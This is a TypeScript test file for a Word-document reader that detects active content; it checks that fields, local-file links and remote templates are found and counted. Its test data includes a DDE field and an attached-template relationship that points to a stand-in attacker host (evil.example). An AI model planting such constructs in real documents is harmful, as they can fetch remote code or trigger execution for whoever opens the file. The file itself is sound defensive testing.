import { join } from 'node:path'
import { expect, test } from 'vitest'
import { HOSTILE_CONSTRUCTS } from '../disarm/hostile-constructs.fixture.ts'
import { storedPicture } from '../disarm/hostile-markup.fixture.ts'
import type { HostileConstruct } from '../disarm/hostile-markup.fixture.ts'
import { paragraph, writeWordFile } from '../package/word-file.fixture.ts'
import type { WordFile } from '../package/word-file.fixture.ts'
import { temporaryFolder } from './document-reading.fixture.ts'
import { openDocument } from './open-document.ts'

async function activeContentOf(file: WordFile, countsActiveContent = true) {
  const path = await writeWordFile(join(await temporaryFolder(), 'source.docx'), file)
  const opened = await openDocument(path, { countsActiveContent })
  await opened.close()
  return opened.facts.activeContent
}

const documentWith = ({ inline, block, links = [], parts = [] }: HostileConstruct): WordFile => ({
  body: `${paragraph('before')}${block ?? `<w:p>${inline}</w:p>`}`,
  links,
  parts: [storedPicture, ...parts],
})

test.for(HOSTILE_CONSTRUCTS.map((one) => [one.name, one] as const))(
  'reading reports: %s',
  async ([, construct]) => {
    expect((await activeContentOf(documentWith(construct)))?.length).toBeGreaterThan(0)
  },
)

test('elements are counted by kind, in the body, in notes and in settings', async () => {
  const field = '<w:p><w:fldSimple w:instr="DDE x"><w:r><w:t>r</w:t></w:r></w:fldSimple></w:p>'
  const found = await activeContentOf({
    body: `${field}${field}<w:p><w:hyperlink r:id="rIdL"><w:r><w:t>l</w:t></w:r></w:hyperlink><w:r><w:footnoteReference w:id="2"/></w:r></w:p>`,
    links: [
      { id: 'rIdL', kind: 'hyperlink', target: 'file:///c:/x' },
      { id: 'rIdW', kind: 'hyperlink', target: 'https://example.com/' },
    ],
    footnotes: `<w:footnote w:id="2">${field}</w:footnote>`,
    settings: '<w:attachedTemplate r:id="rId1"/>',
    parts: [
      {
        name: 'word/_rels/settings.xml.rels',
        data: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        kind: '',
        contentType: 'application/vnd.openxmlformats-package.relationships+xml',
      },
    ],
  })
  expect(found).toEqual([
    { kind: 'field', count: 3 },
    { kind: 'link', count: 1 },
    { kind: 'remote-template', count: 1 },
  ])
})

test('a harmless document has none, and counting is off by default', async () => {
  const file = {
    body: '<w:p><w:hyperlink r:id="rIdW"><w:r><w:t>web</w:t></w:r></w:hyperlink><w:fldSimple w:instr="PAGE"/></w:p>',
    links: [{ id: 'rIdW', kind: 'hyperlink', target: 'https://example.com/' }],
  }
  expect(await activeContentOf(file)).toEqual([])
  expect(await activeContentOf(file, false)).toBeUndefined()
})
